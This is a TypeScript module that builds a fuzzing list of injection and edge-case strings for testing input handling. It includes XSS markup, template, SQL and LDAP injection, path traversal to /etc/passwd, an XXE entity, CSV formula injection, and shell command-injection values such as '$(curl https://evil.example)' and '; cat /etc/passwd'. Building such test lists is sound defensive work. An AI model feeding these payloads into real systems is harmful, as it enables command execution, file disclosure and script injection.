/**
 * Texts that some program would run, count or read as its own: markup, templates, queries, commands,
 * numbers. They come by family.
 */
export const naughtySyntax = (): string[] => [
  ...markup(),
  ...templates(),
  ...queries(),
  ...commands(),
  ...paths(),
  ...names(),
  ...numbers(),
  ...documents(),
]

function markup(): string[] {
  const payloads = [
    '<script>alert(1)</script>',
    '<script src="https://evil.example/x.js"></script>',
    '<img src=x onerror=alert(1)>',
    '<img/src="x"/onerror="alert`1`">',
    '<svg onload=alert(1)>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    '<details open ontoggle=alert(1)>',
    '<body onload=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '<video><source onerror=alert(1)></video>',
    '<math><mtext><style><img src onerror=alert(1)></style></mtext></math>',
    '<style>*{display:none}</style>',
    '<link rel=stylesheet href=https://evil.example/x.css>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<form action=javascript:alert(1)><button>go</button></form>',
    '<base href=https://evil.example/>',
    '<template><script>alert(1)</script></template>',
  ]
  const wrappers: ((payload: string) => string)[] = [
    (payload) => payload,
    (payload) => `">${payload}`,
    (payload) => `'>${payload}`,
    (payload) => `</textarea></title>${payload}`,
    (payload) => `--><!--${payload}`,
    (payload) => payload.toUpperCase(),
    (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    (payload) => encodeURIComponent(payload),
    (payload) => payload.replaceAll('<', '\\u003c'),
  ]
  const urls = ['javascript:alert(1)', ' \tjavascript:alert(1)', 'data:text/html,<b>x</b>', '//evil.example']
  return [...payloads.flatMap((payload) => wrappers.map((wrap) => wrap(payload))), ...urls]
}

function templates(): string[] {
  const sums = [
    '{{7*7}}',
    `$${'{7*7}'}`,
    '<%= 7*7 %>',
    '#{7*7}',
    '[[7*7]]',
    '{%7*7%}',
    '@(7*7)',
    '*{7*7}',
    '$7*7$',
  ]
  const calls = [
    "{{constructor.constructor('alert(1)')()}}",
    `$${"{alert('1')}"}`,
    '{{_self.env.display("x")}}',
    '<#assign x="freemarker.template.utility.Execute"?new()>',
    '{{#with "s" as |string|}}{{/with}}',
    '$eval.constructor(`alert(1)`)()',
    '{{{raw}}}',
    '{{> partial}}',
    ':::{.note}',
    '[x](javascript:alert(1))',
    '![x](x "onerror=alert(1)")',
    '**bold** _thin_ `code` ~~gone~~',
  ]
  return [...sums, ...calls]
}

function queries(): string[] {
  const tails = ['--', '#', '/*', ';--', ') --']
  const breaks = ["' OR '1'='1", '" OR ""="', "1' OR 1=1", "'; DROP TABLE flags", "' UNION SELECT NULL"]
  return [
    ...breaks.flatMap((text) => tails.map((tail) => `${text} ${tail}`)),
    "Robert'); DROP TABLE users;",
    "O'Brien",
    '{"$gt": ""}',
    '{"$where": "sleep(1000)"}',
    '*)(uid=*))(|(uid=*',
    "' or count(/child::node())=1 or ''='",
  ]
}

function commands(): string[] {
  const words = ['reboot', 'cat /etc/passwd', 'curl https://evil.example']
  const wraps = [
    (word: string) => `; ${word}`,
    (word: string) => `| ${word}`,
    (word: string) => `$(${word})`,
    (word: string) => `\`${word}\``,
    (word: string) => `&& ${word} &`,
    (word: string) => `"; ${word}; "`,
  ]
  const formats = [
    '%s%s%s%n',
    '%x%x%x%x',
    '%d',
    '%99999999s',
    '%@',
    '{0}{1}',
    '$1$2',
    '\\1\\2',
    '%%',
    '%c%p%a',
  ]
  return [
    ...wraps.flatMap((wrap) => words.map(wrap)),
    ...formats,
    '() { :;}; echo x',
    '\\',
    '\\\\',
    "\\'",
    '\\"',
  ]
}

function paths(): string[] {
  const ups = ['../', '..\\', '%2e%2e%2f', '..%c0%af', '....//']
  const targets = ['etc/passwd', 'windows/win.ini']
  const devices = [
    'CON',
    'NUL',
    'aux.txt',
    'COM1',
    'LPT1',
    'desktop.ini',
    '.htaccess',
    '.git/config',
    '~root',
  ]
  const rest = [
    '/',
    '//',
    'C:\\',
    '\\\\server\\share',
    'file:///etc/passwd',
    '/dev/null',
    '?q=1#top',
    './.',
    '*',
  ]
  return [...ups.flatMap((up) => targets.map((target) => up.repeat(4) + target)), ...devices, ...rest]
}

/** Names that objects and programs have of their own. */
function names(): string[] {
  return [
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'valueOf',
    'hasOwnProperty',
    'isPrototypeOf',
    '__defineGetter__',
    '__lookupSetter__',
    'then',
    'toJSON',
    'length',
    'arguments',
    'undefined',
    'null',
    'nil',
    'None',
    '(null)',
    'true',
    'FALSE',
    'NaN',
    '[object Object]',
    'function () {}',
    '$$typeof',
    'dangerouslySetInnerHTML',
    'key',
    'ref',
    'children',
  ]
}

function numbers(): string[] {
  return [
    '0',
    '-0',
    '-1',
    '1/0',
    '0.0',
    '1e999',
    '-1e999',
    'Infinity',
    '-Infinity',
    '0x10',
    '0b11',
    '0o17',
    '010',
    '1_000',
    '1,000.00',
    '1.000,00',
    "1'000",
    '١٢٣',
    '१२३',
    '１２３',
    '½',
    '²',
    'Ⅻ',
    '9007199254740993',
    '-9223372036854775809',
    '0.1e-400',
    '1.7976931348623157e309',
    '2147483648',
    '1970-01-01T00:00:00Z',
    '9999-12-31T23:59:60+24:00',
    '$1.00',
    '100%',
    '+49 0123',
  ]
}

/** Parts of files that other programs would read. */
function documents(): string[] {
  return [
    '=1+1',
    '@SUM(A1:A9)',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '"a","b"\n"c',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    '<!DOCTYPE html>',
    '<![CDATA[x]]>',
    ']]>',
    '<?php echo 1; ?>',
    '&amp;&lt;&#x3c;&nbsp;&bogus;',
    '{"a":',
    '{"__proto__":{"admin":true}}',
    '[[[[[[[[[[',
    'data: x\n\nevent: update\ndata: {}',
    'x\r\nSet-Cookie: a=b',
    '--boundary\r\nContent-Type: text/html',
    '!!js/function "x"',
    '- &a [*a]',
    '# not a comment',
    '```js\nalert(1)\n```',
    'BEGIN:VCARD',
    'a\tb\tc',
    'one\ntwo\r\nthree\rfour',
  ]
}
